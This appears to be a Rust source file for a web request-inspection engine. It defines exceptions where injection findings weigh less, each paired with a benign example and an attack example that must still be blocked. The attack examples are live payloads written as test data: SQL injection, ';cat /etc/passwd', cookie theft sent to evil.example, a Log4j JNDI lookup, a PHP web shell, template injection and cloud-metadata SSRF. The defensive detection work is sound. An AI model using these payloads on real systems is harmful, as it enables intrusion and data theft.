//! The exceptions: findings that weigh nothing, or less, because of the field, the place or the form of what
//! they stand in. Each of them stays in the analysis, with the exception's id.
//!
//! Tests hold each row against its examples, and the documentation against the table.

use std::fmt::Write as _;

use super::purpose;
use super::purpose::*;
use crate::{Class, Kind, Location, Place};

/// An exception.
#[derive(Clone, Copy, Debug)]
pub struct Exception {
    /// Its id, as events and explanations have it.
    pub id: &'static str,
    /// The classes that it is for; with none, all.
    pub classes: &'static [Class],
    /// The effect on a finding.
    pub effect: Effect,
    /// The findings, and where they stand.
    pub what: &'static str,
    /// What it leaves alone.
    pub but: &'static str,
    /// The reason.
    pub why: &'static str,
    /// What must pass because of it.
    pub benign: Example,
    /// What must be blocked all the same.
    pub attack: Example,
}

/// The effect of an exception.
#[derive(Clone, Copy, Debug)]
pub enum Effect {
    /// A finding weighs nothing. Who finds it asks whether that holds.
    Suppresses,
    /// A finding that its own neighbourhood shows to be quoted or named weighs less, where this holds of the
    /// place.
    Lowers(fn(Location<'_>) -> bool),
    /// The same where a field for files has a value that is one.
    LowersFiles,
}

use Effect::{Lowers, LowersFiles, Suppresses};

/// A message, or a field of one.
#[derive(Clone, Copy, Debug)]
pub enum Example {
    /// A member of JSON: its name and value.
    Json(&'static str, &'static str),
    /// A parameter of a query.
    Query(&'static str, &'static str),
    /// The target of a request.
    Target(&'static str),
    /// A body: its type and contents.
    Body(&'static str, &'static [u8]),
    /// The header field Referer of a request to `shop.example`.
    Referer(&'static str),
    /// The header field Cookie of a request.
    Cookie(&'static str),
    /// The same, of cookies that the site has issued.
    IssuedCookie(&'static str),
    /// A member of JSON that the site has learned to carry what is found in it.
    Opened(&'static str, &'static str),
    /// The body of a response.
    Page(&'static str),
}

use Example::{Body, Cookie, IssuedCookie, Json, Opened, Page, Query, Referer, Target};

/// The table.
pub const EXCEPTIONS: &[Exception] = &[
    Exception {
        id: "statements",
        classes: &[Class::Sqli],
        effect: Suppresses,
        what: "a whole statement in a field for statements (`sql`, in bodies also `query`, `statement`, ...)",
        but: "pieces of statements; commands, files, other machines, waiting",
        why: "editors of databases and reports send them",
        benign: Json("sql", "select password from users where 1=1 or 2=2"),
        attack: Json("sql", "1 union select user, password from users-- -"),
    },
    Exception {
        id: "conditions",
        classes: &[Class::Sqli],
        effect: Suppresses,
        what: "conditions in a field for those of another query language (`jql`, `$filter`, `where`, `rule`, ...)",
        but: "quotes that end a string, statements, calls that wait",
        why: "they look like those of SQL",
        benign: Json("filter", "status = 'open' AND (priority = 1 OR priority = 2) AND 1 = 1"),
        attack: Json("filter", "x' or 1=1-- -"),
    },
    Exception {
        id: "cells",
        classes: &[Class::Sqli],
        effect: Suppresses,
        what: "conditions and queries between the quotes of a formula that names a cell, in a field for cells (`cells`, `values`, ...)",
        but: "what reads a table, runs or waits; formulas whose first string begins with a sign or a word that joins",
        why: "a statement's string ends there with an error of syntax",
        benign: Json("values", "=QUERY(A1:D9,\"select A, sum(D) where B = 'open' group by A order by sum(D) desc\",1)"),
        attack: Json("values", "=IF(A1=\" or 1=1 -- \",1,2)"),
    },
    Exception {
        id: "function-said",
        classes: &[Class::Sqli, Class::Code],
        effect: Suppresses,
        what: "an expression or a call that is all of a search, a text, a statement, a condition or a file",
        but: "the same in other fields",
        why: "people look for functions and write of them",
        benign: Query("q", "current_user()"),
        attack: Query("id", "sleep(5)"),
    },
    Exception {
        id: "dump",
        classes: &[Class::Sqli],
        effect: Suppresses,
        what: "an uploaded file that begins with a statement",
        but: "fields, and files of less than 96 bytes",
        why: "it is a dump of a database or a script for one",
        benign: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.sql\"\r\n\r\nINSERT INTO a VALUES (1, 'b'), (2, 'c');\nDELETE FROM a WHERE id = 1 OR 1=1;\nUPDATE a SET b = 'd' WHERE c = 1;\n\r\n--x--\r\n",
        ),
        attack: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n' or 1=1-- -\r\n--x--\r\n",
        ),
    },
    Exception {
        id: "password-signs",
        classes: &[Class::Sqli, Class::Command, Class::Xss, Class::Ldap],
        effect: Suppresses,
        what: "signs, names and calls that a generator draws, in a field for passwords and secrets",
        but: "conditions and statements behind a quote, commands with arguments",
        why: "any signs stand in a secret",
        benign: Json("api_secret", "x\"(9&;id|)$1%"),
        attack: Json("api_secret", ";cat /etc/passwd"),
    },
    Exception {
        id: "bare-in-body",
        classes: &[Class::Command],
        effect: Suppresses,
        what: "a command without arguments, or an unknown program, in a body that no parser took apart",
        but: "commands with arguments",
        why: "words and signs stand there by chance",
        benign: Body("text/plain", b"total|whoami"),
        attack: Body("text/plain", b"x;cat /etc/passwd"),
    },
    Exception {
        id: "site-scripts",
        classes: &[Class::Xss],
        effect: Suppresses,
        what: "markup and scripts in a field for a site's own scripts (`head_code`, `custom_js`, `tracking`, ...)",
        but: "scripts that open dialogs, send what the browser keeps, or hide what they call",
        why: "administrators set counters and tag managers there",
        benign: Json("head_code", "<script async src=\"https://tags.example/gtag/js?id=G-1\"></script>"),
        attack: Json("head_code", "<script>fetch('//evil.example/?'+document.cookie)</script>"),
    },
    Exception {
        id: "dialog-in-code",
        classes: &[Class::Xss],
        effect: Suppresses,
        what: "a dialog that says something, as all of a field for code",
        but: "code that reads, sends, loads or writes",
        why: "examples of code have it",
        benign: Json("js", "alert('Saved!')"),
        attack: Json("js", "<svg onload=alert(1)>"),
    },
    Exception {
        id: "reported-code",
        classes: &[Class::Xss],
        effect: Suppresses,
        what: "the code in a browser's report of a content security policy (`script-sample`)",
        but: "all else",
        why: "the browser did not run it",
        benign: Json("csp-report.script-sample", "eval(document.cookie)"),
        attack: Json("csp-report.script-sample", "<script>alert(document.cookie)</script>"),
    },
    Exception {
        id: "embedded-documents",
        classes: &[Class::Xss],
        effect: Suppresses,
        what: "frames of another host without TLS, and style sheets of XML, in a field for documents",
        but: "the same in other fields; frames with nothing but an address",
        why: "editors take pages that are old",
        benign: Json("content", "<p>See</p><iframe width=\"560\" src=\"http://player.example/v/1\" allowfullscreen></iframe>"),
        attack: Query("q", "<iframe src=\"http://evil.example/login\" width=800></iframe>"),
    },
    Exception {
        id: "header-fields",
        classes: &[Class::Crlf],
        effect: Suppresses,
        what: "line ends with header fields behind them in a field for header fields (`headers`)",
        but: "the same in other fields",
        why: "clients of interfaces report them",
        benign: Json("headers", "en\r\nSet-Cookie: a=b"),
        attack: Json("lang", "en\r\nSet-Cookie: a=b"),
    },
    Exception {
        id: "pattern",
        classes: &[Class::Path],
        effect: Suppresses,
        what: "mixed and doubled separators in a field for patterns (`pattern`, `regex`)",
        but: "paths that climb",
        why: "patterns escape them",
        benign: Json("pattern", "^[\\\\./]+\\.\\/a//..\\b"),
        attack: Json("pattern", "../../../../etc/passwd"),
    },
    Exception {
        id: "own-file",
        classes: &[Class::Path],
        effect: Suppresses,
        what: "a path to settings, logs, data or certificates in a field for one (`config_path`, `log_file`, ...)",
        but: "paths that climb; files that tell of users, keys, secrets",
        why: "an installation says where its files are",
        benign: Json("log_file", "/var/log/nginx/error.log"),
        attack: Json("log_file", "/etc/shadow"),
    },
    Exception {
        id: "project-file",
        classes: &[Class::Path],
        effect: Suppresses,
        what: "the path of a file in the address of its page at a code host (`/blob/`, `/raw/`, `/src/branch/`, ...)",
        but: "paths that climb",
        why: "the file is one of a project",
        benign: Target("/org/app/-/blob/main/etc/nginx/nginx.conf"),
        attack: Target("/org/app/-/blob/main/../../../../etc/nginx/nginx.conf"),
    },
    Exception {
        id: "edited-file",
        classes: &[Class::Path],
        effect: Suppresses,
        what: "the URL of a local file where an editor says which one it has open (`textDocument.uri`, `rootUri`, ...)",
        but: "files and folders of the system, hidden ones, files with users and secrets, paths that climb or are encoded",
        why: "the Language Server Protocol names files so",
        benign: Json("params.textDocument.uri", "file:///home/ann/app/main.go"),
        attack: Json("params.textDocument.uri", "file:///home/ann/.ssh/id_rsa"),
    },
    Exception {
        id: "own-folder",
        classes: &[Class::Path],
        effect: Suppresses,
        what: "a path into a folder of the machine in a field for one (`upload_dir`, ...)",
        but: "paths that climb; files that tell of users, keys, secrets",
        why: "an installation says where its folders are",
        benign: Json("log_dir", "/etc/nginx/conf.d"),
        attack: Json("log_dir", "/etc/passwd"),
    },
    Exception {
        id: "own-service",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "the port of a service in the address of one, in a field for it (`redis_url`, `database`, ...)",
        but: "metadata services, hidden notations, schemes that speak to any service",
        why: "an installation says where its databases are",
        benign: Json("elasticsearch_url", "http://10.0.0.5:9200"),
        attack: Json("image_url", "http://127.0.0.1:9200/_search"),
    },
    Exception {
        id: "numbers",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "two or three numbers with a slash behind them and no scheme, which short notations of an address are, too",
        but: "the same in a field that may be for an address (`url`, `host`, `image`, ...); `127.1`, ports, metadata services",
        why: "identifiers of documents (DOI), prices per hour and versions are written so",
        benign: Json("DOI", "10.1000/xyz"),
        attack: Json("image", "10.1000/xyz"),
    },
    Exception {
        id: "own-host",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "a host of a private network with its port, in a field for hosts (`hosts`, `brokers`, ...)",
        but: "metadata services, hidden notations",
        why: "an installation says where its machines are",
        benign: Json("brokers", "10.0.0.5:9092"),
        attack: Json("brokers", "169.254.169.254/latest/meta-data"),
    },
    Exception {
        id: "referer-text",
        classes: &[Class::Sqli, Class::Path, Class::Command],
        effect: Suppresses,
        what: "what a visitor typed into a text or search field of the site's own page, or asked a search engine",
        but: "markup, lookups, template expressions and code",
        why: "the request of that page was judged by itself",
        benign: Referer("http://shop.example/s?q=x%27+or+1%3D1--+-"),
        attack: Referer("http://shop.example/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    },
    Exception {
        id: "issued-cookie",
        classes: &[],
        effect: Suppresses,
        what: "a cookie that an answer of the site has set to this value",
        but: "lookups of Log4j and serialised objects; cookies that another one has the name of",
        why: "the application wrote it; lookups and objects act in any program that reads the cookie",
        benign: IssuedCookie("theme=dark; last_page=http://10.0.0.5:9090/metrics"),
        attack: IssuedCookie("theme=dark; lang=${jndi:ldap://evil.example/a}"),
    },
    Exception {
        id: "learned-field",
        classes: &[],
        effect: Suppresses,
        what: "a kind of finding for which this field of this page was opened, as many of its users send it ([fields.md](fields.md))",
        but: "all other kinds; unless `fields.open = \"all\"`, what acts by itself, runs as markup, leaves its place or is disguised",
        why: "the application takes such text in this field",
        benign: Opened("pattern", "{{7*7}}"),
        attack: Opened("pattern", "${jndi:ldap://evil.example/a}"),
    },
    Exception {
        id: "harmless-file",
        classes: &[Class::Upload],
        effect: Suppresses,
        what: "the name of a file that a server runs, if all of it is a source of PHP that does nothing",
        but: "sources that run, include, read, write, send or decode something, or cannot be read as a whole",
        why: "developers upload their own classes and functions",
        benign: Body("multipart/form-data; boundary=x", HARMLESS_FILE),
        attack: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']);\r\n--x--\r\n",
        ),
    },
    Exception {
        id: "open-element",
        classes: &[],
        effect: Suppresses,
        what: "texts of XML in compressed contents without a type that end before their element does",
        but: "elements that end, and the same in a body of XML",
        why: "such contents are a file; nobody has the value of an element without an end",
        benign: Body("application/octet-stream", OPEN_ELEMENT),
        attack: Body("application/xml", b"<a><b>x' union select user, password from users-- -</b></a>"),
    },
    Exception {
        id: "found-in-part",
        classes: &[],
        effect: Suppresses,
        what: "findings in a text of several parts that stand within one part, which was inspected by itself",
        but: "what begins in one part and ends in another",
        why: "each part shows better what it is: a link in prose is not part of the prose",
        benign: Body("application/xml", b"<p>Read <i>how sleep(5) works</i> there, or ask us.</p>"),
        attack: Body("application/xml", b"<p>x' union <b>select</b> user, password from users-- -</p>"),
    },
    Exception {
        id: "signed-session",
        classes: &[Class::Ssrf, Class::RemoteFile, Class::Redirect, Class::Path, Class::Sqli, Class::Command],
        effect: Suppresses,
        what: "addresses, paths, whole statements and commands in a session that the application has signed",
        but: "what ends a string or a command; markup, code, templates, lookups; cookies without a signature",
        why: "the application checks its own signature first",
        benign: Cookie(
            "session=eyJuZXh0IjoiaHR0cDovLzEwLjAuMC41OjkwOTAvbWV0cmljcyJ9.aSrT0w.KzX9dGVzdHNpZ25hdHVyZXh4eXo",
        ),
        attack: Cookie("session=eyJuZXh0IjoiaHR0cDovLzEwLjAuMC41OjkwOTAvbWV0cmljcyJ9"),
    },
    Exception {
        id: "options",
        classes: &[Class::Command],
        effect: Suppresses,
        what: "options that run something as all of a search, of arguments, of a text or a secret",
        but: "the same in other fields; options with a path joined to them",
        why: "people look for options and write of them",
        benign: Json("args", "--log-file=/tmp/x"),
        attack: Query("name", "--file=config.php"),
    },
    Exception {
        id: "formulas",
        classes: &[Class::Command],
        effect: Suppresses,
        what: "a formula that loads from an address or leads to it, in a field for formulas or cells (`formula`, `expression`, `cells`, `values`)",
        but: "formulas that start programs; the same in other fields",
        why: "sheets have links and pictures",
        benign: Json("formula", "=HYPERLINK(\"https://shop.example/?id=\"&A1,\"order\")"),
        attack: Json("company", "=HYPERLINK(\"https://shop.example/?id=\"&A1,\"order\")"),
    },
    Exception {
        id: "scripts",
        classes: &[Class::Command],
        effect: Suppresses,
        what: "command lines of an uploaded file",
        but: "a file of less than 96 bytes whose commands nothing shows or names",
        why: "a file is given to no shell as a piece of a command line",
        benign: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.sh\"\r\n\r\n#!/bin/sh\nset -e\ncd /srv/app || exit 1\ngit pull; cat /etc/hosts\nsystemctl restart app && curl -fsS https://app.example/healthz\n\r\n--x--\r\n",
        ),
        attack: Json("host", ";cat /etc/passwd"),
    },
    Exception {
        id: "language-calls",
        classes: &[Class::Code],
        effect: Suppresses,
        what: "calls that compute as all of a formula, a cell, a condition, a filter, a pattern or a statement",
        but: "names and calls that reach the machine",
        why: "these languages have such calls",
        benign: Json("formula", "getenv(\"A\")"),
        attack: Query("x", "getenv(\"A\")"),
    },
    Exception {
        id: "mail-texts",
        classes: &[Class::Mail],
        effect: Suppresses,
        what: "header fields of a mail in a field for the text of one (`mail.body`)",
        but: "the same in a field for an address or a name",
        why: "what a mail says goes into no header",
        benign: Json("mail.body", "Hello,\nSubject: news\nmore to come"),
        attack: Json("mail.from", "a@b.example\nBcc: c@d.example"),
    },
    Exception {
        id: "own-address",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "a plain address of a private network or the machine in a field for one of the installation (`webhook_url`, `base_url`, ...)",
        but: "metadata services, hidden notations, ports of other services",
        why: "an installation says where its services are",
        benign: Json("webhook_url", "http://10.0.0.5/hook"),
        attack: Json("webhook_url", "http://169.254.169.254/latest/meta-data/"),
    },
    Exception {
        id: "reported-address",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "a plain local address where a browser or a token says what page or service it is of (`page.url`, ...)",
        but: "what no browser writes so",
        why: "developers use their own machines",
        benign: Json("page.url", "http://localhost:3000/cart"),
        attack: Json("image_url", "http://localhost:3000/cart"),
    },
    Exception {
        id: "service-address",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "an address of a private network or the machine without a path, or with that of an interface, in a field for one (`address`, `target`, `health`, ...)",
        but: "other paths, queries, users, ports of other services, hidden notations",
        why: "a setting says where a service is",
        benign: Json("address", "http://192.168.1.10:8123"),
        attack: Json("address", "http://localhost/admin"),
    },
    Exception {
        id: "login-callback",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "the address of a program on the visitor's machine to which a login leads back",
        but: "other paths",
        why: "programs for a desk or a terminal wait there (RFC 8252)",
        benign: Query("x", "http://127.0.0.1:8080/callback"),
        attack: Query("x", "http://localhost:8080/admin"),
    },
    Exception {
        id: "address-said",
        classes: &[Class::Ssrf],
        effect: Suppresses,
        what: "a host of a private network and its port as all of a search",
        but: "schemes, paths, ports of other services",
        why: "people look for addresses; who has a server ask writes a scheme",
        benign: Query("q", "localhost:8080"),
        attack: Query("q", "http://localhost:8080/admin"),
    },
    Exception {
        id: "own-popups",
        classes: &[Class::Xss],
        effect: Suppresses,
        what: "a window that a handler of a page opens, in a field for files whose value is a page",
        but: "the same in other fields, and other handlers",
        why: "pages open windows",
        benign: Json(
            "content",
            "<!doctype html>\n<html><body><p>Some text that is long enough to be a page of its own, with a link in it</p><a href=\"#\" onclick=\"window.open('a_b.html', '', ''); return false;\">x</a></body></html>",
        ),
        attack: Json("comment", "<a href=x onclick=\"window.open('//evil.example/?'+document.cookie)\">x</a>"),
    },
    Exception {
        id: "harmless-source",
        classes: &[Class::Upload],
        effect: Suppresses,
        what: "code that runs something and reads something in an uploaded source of PHP that runs nothing a request gives it",
        but: "sources that run what a request gives them",
        why: "developers upload their own programs",
        benign: Body("multipart/form-data; boundary=x", HARMLESS_SOURCE),
        attack: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n<?php system($_GET['c']);\r\n--x--\r\n",
        ),
    },
    Exception {
        id: "settings-classes",
        classes: &[Class::Deserialization],
        effect: Suppresses,
        what: "classes of libraries in settings of XML (`<beans>`, `<Configure>`, `<web-app>`, ...), as a file or a whole body",
        but: "classes that run something or reach other machines by themselves",
        why: "such settings list the objects of a program",
        benign: Body(
            "application/xml",
            b"<beans>\n<bean class=\"org.springframework.beans.factory.config.PropertyPathFactoryBean\"><property name=\"x\" value=\"y\"/></bean>\n</beans>",
        ),
        attack: Body("application/xml", b"<beans><bean class=\"java.lang.ProcessBuilder\"><constructor-arg value=\"id\"/></bean></beans>"),
    },
    Exception {
        id: "placeholders",
        classes: &[Class::Template],
        effect: Suppresses,
        what: "an expression that prints one name (`{{name}}`), in bodies",
        but: "the same in a query, a header or a cookie; names of what an engine keeps",
        why: "texts and templates have placeholders",
        benign: Json("x", "{{ settings }}"),
        attack: Query("q", "{{ settings }}"),
    },
    Exception {
        id: "file",
        classes: &[],
        effect: Lowers(is_of_file),
        what: "what an uploaded file quotes or names",
        but: "the same as a field's value",
        why: "a file is a document by itself",
        benign: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.md\"\r\n\r\n# Notes\n\nRead it before the next step of the upgrade of the machine, and ask us when it is not clear to you.\n\n    <script src=//a.example/x.js></script>\r\n--x--\r\n",
        ),
        attack: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n<svg onload=alert(document.cookie)>\r\n--x--\r\n",
        ),
    },
    Exception {
        id: "response",
        classes: &[],
        effect: Lowers(is_of_response),
        what: "what the site's own page quotes or names",
        but: "messages and sources that are no part of a sentence or an example",
        why: "articles show error messages and code",
        benign: Page(ARTICLE),
        attack: Page("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '1 at line 1"),
    },
    Exception {
        id: "file-fields",
        classes: &[],
        effect: LowersFiles,
        what: "what a text of several lines or a program quotes or names, in a field for files (`content`, ...)",
        but: "quotes that end a string which the text did not begin; values of one line",
        why: "editors and interfaces to repositories keep files there",
        benign: Json("source_code", "import db\n\ndef names(connection):\n    query = 'select name from users where id = 1 or 1 = 1'\n    return connection.run(query)\n"),
        attack: Json("source_code", "' or 1=1-- -"),
    },
    Exception {
        id: "text",
        classes: &[],
        effect: Lowers(takes_text),
        what: "what a text quotes, shows as code or names, in a field for text (`comment`, `message`, ...)",
        but: "what is active wherever it stands; the same in other fields",
        why: "people write of what they saw",
        benign: Json("comment", "Run `ls -la; cat /etc/hosts` to see what is there."),
        attack: Query("q", "Run `ls -la; cat /etc/hosts` to see what is there."),
    },
    Exception {
        id: "queries",
        classes: &[Class::Sqli],
        effect: Lowers(takes_queries),
        what: "pieces of statements that are quoted, in a field for statements, conditions, formulas or secrets",
        but: "what ends a string; the same in other fields",
        why: "the field is for what looks like it",
        benign: Json("sql", "it's '1 or 1=1' here"),
        attack: Json("sql", "1 union select user, password from users-- -"),
    },
    Exception {
        id: "directory-filters",
        classes: &[Class::Ldap],
        effect: Lowers(takes_whole_filters),
        what: "a whole, balanced filter in a field for those of a directory (`ldap_filter`, `user_search`, ...) or for code",
        but: "what closes a parenthesis that it did not open",
        why: "settings of a login by LDAP have it",
        benign: Json("ldap_filter", "(&(objectClass=user)(|(uid=*)(mail=*)))"),
        attack: Json("ldap_filter", "*)(uid=*))(|(uid=*"),
    },
    Exception {
        id: "code",
        classes: &[Class::Xss, Class::Command, Class::Path, Class::Code],
        effect: Lowers(takes_code),
        what: "what code quotes, names or computes, in a field for code (`code`, `snippet`, `script`, ...)",
        but: "what is active wherever it stands",
        why: "code is what the site asks for there",
        benign: Json("js", "cat /etc/hosts | wc -l"),
        attack: Json("code", "<?php system($_GET['c']); ?>"),
    },
    Exception {
        id: "templates",
        classes: &[Class::Template],
        effect: Lowers(takes_templates),
        what: "what an expression computes or shows, in a field for templates or code",
        but: "expressions that reach the language below the engine, or what the engine keeps",
        why: "templates are what the site asks for there",
        benign: Json("layout", "{{ 7*7 }}"),
        attack: Json("template", "{{ self.__init__.__globals__.os.popen('id').read() }}"),
    },
    Exception {
        id: "code-samples",
        classes: &[Class::Xss],
        effect: Lowers(quotes_code),
        what: "markup and code that a browser's report quotes (`sample`)",
        but: "what is active wherever it stands",
        why: "the browser did not run it",
        benign: Json("csp-report.sample", "x javascript:alert(1)"),
        attack: Json("csp-report.sample", "<script>alert(document.cookie)</script>"),
    },
    Exception {
        id: "word-lists",
        classes: &[Class::Xss, Class::Path],
        effect: Lowers(lists_words),
        what: "pieces of tags and paths in a list of words that texts may not have (`blocked_words`, ...)",
        but: "markup that runs",
        why: "such a list has them",
        benign: Json("blocked_words", "<script\n<iframe\n../\n/etc/passwd\n"),
        attack: Json("blocked_words", "<script>alert(document.cookie)</script>"),
    },
    Exception {
        id: "set-ups",
        classes: &[Class::Command, Class::Path, Class::Ssrf],
        effect: Lowers(takes_set_up),
        what: "commands, paths and addresses of a document that sets up a machine, or of a step of a project",
        but: "commands behind a sign without a space, with hidden names, or that read secrets; paths that climb",
        why: "administrators and pipelines run them",
        benign: Json("dockerfile", "FROM a:1\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nCMD [\"a\"]"),
        attack: Json("dockerfile", "x;cat /etc/passwd"),
    },
    Exception {
        id: "command-lines",
        classes: &[Class::Command],
        effect: Lowers(takes_lines),
        what: "command lines of a project (`scripts` of a package, `run`, `entrypoint` and `steps.commands` of a job) or a container",
        but: "the same as of setups",
        why: "packages and pipelines have them",
        benign: Json("scripts.build", "npm ci && npm run build && cp -r dist/ /srv/www"),
        attack: Json("scripts.build", "x;cat /etc/passwd"),
    },
    Exception {
        id: "tool-calls",
        classes: &[Class::Sqli, Class::Command, Class::Ssrf],
        effect: Lowers(takes_tool_call),
        what: "a command line that a language model gives a tool (`params.arguments.command`, ...)",
        but: "lines that do not begin with a command, with hidden names, or that read secrets",
        why: "nothing breaks out of a line that is all of a command",
        benign: Json("params.arguments.command", "ls -la; whoami"),
        attack: Json("params.arguments.command", ";cat /etc/passwd"),
    },
    Exception {
        id: "telemetry",
        classes: &[Class::Command],
        effect: Lowers(is_attribute),
        what: "a command line in an attribute of a span or log record (OpenTelemetry)",
        but: "lines that do not begin with a command, with hidden names, or that read secrets",
        why: "services report what started them",
        benign: Json("spans.attributes.value.stringValue", "ls -la; whoami"),
        attack: Json("spans.attributes.value.stringValue", ";cat /etc/passwd"),
    },
    Exception {
        id: "titles",
        classes: &[Class::Path],
        effect: Lowers(takes_title),
        what: "a path that a sentence names, in a field for a title (`title`, `subject`, ...)",
        but: "paths that climb, and a path as all of the value",
        why: "people write of files",
        benign: Json("title", "Why is /etc/passwd readable for all?"),
        attack: Json("title", "/etc/passwd"),
    },
];

/// A source of PHP that declares and computes.
const HARMLESS_FILE: &[u8] = b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php\n\nnamespace Shop;\n\nfinal class Price\n{\n    private int $cents = 0;\n\n    public function cents(): int\n    {\n        return $this->cents;\n    }\n}\n\r\n--x--\r\n";

/// A source of PHP that takes a number of a request and loads a file of its own.
const HARMLESS_SOURCE: &[u8] = b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n<?php\n\n$page = (int) $_GET['page'];\nprint $page;\nfunction version() {\n    return require(__DIR__ . '/version.php');\n}\n// The end of a program of several lines.\n\r\n--x--\r\n";

/// A page of a manual.
const ARTICLE: &str = "<!doctype html><html><head><title>Manual</title></head><body><h1>Errors</h1><p>When the \
    application sends a statement that the server cannot read, the driver raises an exception. The message tells \
    where the parser stopped, which is seldom where the mistake is. Look at the words before that place: a quote \
    that was not closed, a comma too many, or a name that is a word of the language.</p><pre><code>ERROR 1064 \
    (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL</code></pre>\
    <p>Most libraries let you pass the values beside the statement, and then nothing that a user writes is ever \
    read as a part of it, which is also what keeps an attacker out of the database and of its other tables.</p>\
    </body></html>";

/// XML in gzip without an end: `<a><p>words of a text</p>...<b>/etc/passwd<i>x`.
const OPEN_ELEMENT: &[u8] =
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\xb3\x49\xb4\xb3\x29\xb0\x2b\xcf\x2f\x4a\x29\x56\xc8\x4f\
    \x53\x48\x54\x28\x49\xad\x28\xb1\xd1\x2f\x18\x15\x1d\x15\x1d\x15\x1d\x15\x1d\x15\x45\x88\x26\xd9\
    \xe9\xa7\x96\x24\xeb\x17\x24\x16\x17\x97\xa7\xd8\x64\xda\x55\x00\x00\xad\x8e\x5d\x8e\x3d\x05\x00\
    \x00";

fn is_of_file(location: Location<'_>) -> bool {
    location.place == Place::FileContent
}

fn is_of_response(location: Location<'_>) -> bool {
    location.place.is_response()
}

fn takes_queries(location: Location<'_>) -> bool {
    takes_statements(location)
        || takes_conditions(location)
        || takes_password(location)
        || takes_formula(location)
}

fn takes_whole_filters(location: Location<'_>) -> bool {
    takes_filters(location) || takes_code(location)
}

fn takes_lines(location: Location<'_>) -> bool {
    takes_command_lines(location) || takes_container_command(location)
}

fn takes_set_up(location: Location<'_>) -> bool {
    takes_configuration(location) || takes_step(location)
}

/// A finding of this kind ends a string or a command before it begins its own: exception `signed-session`
/// does not hold for its class.
pub(crate) fn breaks_out(kind: &Kind) -> bool {
    const KINDS: &[&str] = names!("purpose", "breaks-out");
    KINDS.contains(&kind.id)
}

/// The exception with this id.
pub fn find(id: &str) -> Option<&'static Exception> {
    EXCEPTIONS.iter().find(|row| row.id == id)
}

/// The exception by which what is quoted or named at `location` weighs less for `class`: the site made the
/// field for text or for such things, or it is a document by itself. `is_file`: the value is one, in a field
/// for files.
pub(crate) fn mention(class: Class, location: Location<'_>, is_file: bool) -> Option<&'static str> {
    let is_document = is_file || is_of_file(location) || is_of_response(location);
    if !is_document && !purpose::has_plain_name(location) {
        return None;
    }
    let holds = |row: &&Exception| match row.effect {
        Lowers(holds) => (row.classes.is_empty() || row.classes.contains(&class)) && holds(location),
        LowersFiles => is_file,
        Suppresses => false,
    };
    EXCEPTIONS.iter().find(holds).map(|row| row.id)
}

/// The table as Markdown, as it stands in the documentation.
pub fn markdown() -> String {
    let mut out =
        "| exception | classes | effect | findings | not | why |\n|---|---|---|---|---|---|\n".to_owned();
    for row in EXCEPTIONS {
        let Exception { id, what, but, why, .. } = row;
        let names: Vec<&str> = row.classes.iter().map(|class| class.name()).collect();
        let classes = if names.is_empty() { "all".to_owned() } else { names.join(", ") };
        let effect = if let Suppresses = row.effect { "suppresses" } else { "lowers" };
        let _ = writeln!(out, "| `{id}` | {classes} | {effect} | {what} | {but} | {why} |");
    }
    out
}

#[cfg(test)]
mod tests;
